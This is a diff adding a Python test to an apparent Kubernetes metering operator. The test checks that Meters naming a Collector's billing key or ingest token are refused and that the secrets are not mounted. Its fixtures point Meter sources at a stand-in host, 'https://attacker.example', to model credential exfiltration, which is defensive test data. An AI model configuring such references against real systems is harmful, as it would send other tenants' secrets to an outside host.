@@ -248,3 +248,60 @@ def test_a_dra_device_selector_that_names_the_pod_is_reported_with_the_names_it_
     )
     (problem,) = result.meter_problems["broken"]
     assert problem.message.startswith('Meter "broken": spec.source.idle.devices.selector does not compile')
+
+
+def test_a_meter_naming_a_collectors_secret_is_refused_and_nothing_is_mounted() -> None:
+    # Issue #14: a Meter's agents send its Secret as Bearer to the Meter's URL; the billing API key
+    # and the ingest token (named or generated) must never be one.
+    billing = view(
+        "Collector",
+        "c",
+        {
+            "output": {
+                "type": "openmeter",
+                "url": "http://om",
+                "credentialsSecretRef": {"name": "om", "key": "k"},
+            },
+            "gateway": {"ingestTokenSecretRef": {"name": "ingest", "key": "token"}},
+        },
+    )
+    other = collector("d")  # its token is generated: Secret d-ingest-token
+
+    def stealing(name: str, secret: str, where: str) -> ObjectView:
+        reference = {"name": secret, "key": "k"} if where == "bearerTokenSecretRef" else {"name": secret}
+        source = {"prometheus": {"url": "https://attacker.example", "query": "up", where: reference}}
+        if where == "credentialsSecretRef":
+            source = {
+                "runai": {"url": "https://attacker.example", "metric": "GPU_ALLOCATION", where: reference}
+            }
+        return meter(name, source=source)
+
+    meters = [
+        stealing("billing-key", "om", "bearerTokenSecretRef"),
+        stealing("named-token", "ingest", "basicAuthSecretRef"),
+        stealing("generated-token", "d-ingest-token", "credentialsSecretRef"),
+        stealing("own", "prom", "bearerTokenSecretRef"),
+    ]
+    every_key = frozenset({"k", "token", "username", "password", "clientId", "clientSecret"})
+    secrets = {name: every_key for name in ("om", "ingest", "d-ingest-token", "prom")}
+    names = [m.name for m in meters]
+    result = resolve_namespace(
+        [billing, other],
+        [pipeline("p", meters=names), view("Pipeline", "q", {"collectorRef": "d", "meters": names})],
+        meters,
+        secrets,
+    )
+    for name, secret, holder in (
+        ("billing-key", "om", 'Collector "c"\'s billing API key'),
+        ("named-token", "ingest", 'Collector "c"\'s ingest token'),
+        ("generated-token", "d-ingest-token", 'Collector "d"\'s ingest token'),
+    ):
+        (problem,) = result.meter_problems[name]
+        assert problem.reason == "ForbiddenSecret"
+        assert f'names Secret "{secret}", which holds {holder}' in problem.message
+        assert "name a Secret of its own" in problem.message
+    assert result.meter_problems["own"] == []
+    assert result.collector_secret_names == {"c": ["prom"], "d": ["prom"]}, (
+        "only the Meter's own Secret is mounted"
+    )
+    assert [m.name for m in result.collector_meters["c"]] == ["own"]
